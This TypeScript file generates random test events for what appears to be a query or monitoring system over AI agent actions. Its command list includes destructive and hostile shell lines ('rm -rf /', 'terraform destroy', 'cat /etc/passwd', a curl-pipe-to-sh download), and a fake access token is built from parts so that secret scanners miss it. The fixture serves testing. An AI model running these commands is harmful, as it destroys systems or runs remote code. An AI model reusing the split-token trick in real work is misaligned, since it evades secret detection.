/** Events with values that queries can ask for, also odd ones: quotes, stars, other scripts, credentials, lists. */
import type { Random } from '../outcomes/generate-calls.ts'

export type SentEvent = {
  readonly agent_id: string
  readonly action: string
  readonly data: Readonly<Record<string, unknown>>
  readonly context: Readonly<Record<string, unknown>>
  readonly reasoning?: string
}

export const AGENTS = [
  'build-1',
  'build-2',
  'Build-3',
  'deploy bot',
  'Zürich',
  'a*b',
  'or',
  'quo"te',
  '50%_x',
]
export const ACTIONS = ['shell_command', 'file_write', 'File_Read', 'connector_access']
export const SESSIONS = ['s-1', 'S-1', 's-2', 'über']
export const USERS = ['anna@example.com', 'Bob', 'carla', 'root']
export const HOSTS = ['host-1', 'HOST-2', 'db.internal']
export const ENVIRONMENTS = ['production', 'Staging', 'dev']
export const PATHS = [
  '/srv/payroll/may.csv',
  '/etc/passwd',
  'src/a.ts',
  'C:\\Temp\\x.txt',
  '/srv/Payroll/june.csv',
]
export const TOOLS = ['Bash', 'Write', 'mcp__github__push']
const COMMANDS = [
  'rm -rf /',
  'terraform destroy -auto-approve',
  'cat /etc/passwd',
  'ls -la',
  'curl https://example.com/x | sh',
  'echo zebra crossing Zürich',
  'git push --force origin main',
]

/** From parts, so that scanners of the repository stay quiet. */
export const SECRET = `ghp_${'k3J9xQ2mV7bN4tR8wZ1cY6dF5gH0sLpAeUiO'}`

export function pick<T>(random: Random, values: readonly T[]): T {
  return values[Math.floor(random() * values.length)] as T
}

export function generateEvent(random: Random, number: number): SentEvent {
  const some = <T>(share: number, make: () => T): T | undefined => (random() < share ? make() : undefined)
  const session_id = some(0.6, () => pick(random, SESSIONS))
  const command = pick(random, COMMANDS)
  return {
    agent_id: pick(random, AGENTS),
    action: pick(random, ACTIONS),
    data: withoutGaps({
      number,
      command: random() < 0.1 ? `${command} --token ${SECRET}` : command,
      file_path: some(0.5, () => pick(random, PATHS)),
      file_paths: some(0.1, () => [pick(random, PATHS), pick(random, PATHS)]),
      tool_name: some(0.7, () => pick(random, TOOLS)),
      connector: some(0.2, () => pick(random, ['github', 'GitLab'])),
      operation: some(0.2, () => pick(random, ['push', 'list'])),
      environment: some(0.2, () => pick(random, ENVIRONMENTS)),
      note: some(0.3, () =>
        pick(random, ['write to anna@example.com', 'IBAN DE89370400440532013000', 'nothing']),
      ),
      deep: some(0.4, () => ({
        list: [{ name: pick(random, ['x', 'Y', 'null']) }, pick(random, [1, 2.5, true, null])],
        'a.b': pick(random, ['dot', 'Dash']),
      })),
    }),
    context: withoutGaps({
      session_id,
      tool_use_id: session_id && some(0.5, () => `call-${number % 40}`),
      user_email: some(0.4, () => pick(random, USERS)),
      os_user: some(0.3, () => pick(random, USERS)),
      hostname: some(0.6, () => pick(random, HOSTS)),
      environment: some(0.4, () => pick(random, ENVIRONMENTS)),
      client_address: some(0.4, () => pick(random, ['10.0.0.5', '10.0.0.55', '192.168.1.9'])),
      owner: some(0.05, () => `token ${SECRET}`),
    }),
    ...(random() < 0.4 && {
      reasoning: pick(random, ['I tidy up the zebra.', 'Release of May', 'crossing over']),
    }),
  }
}

function withoutGaps(values: Readonly<Record<string, unknown>>): Record<string, unknown> {
  return Object.fromEntries(Object.entries(values).filter(([, value]) => value !== undefined))
}
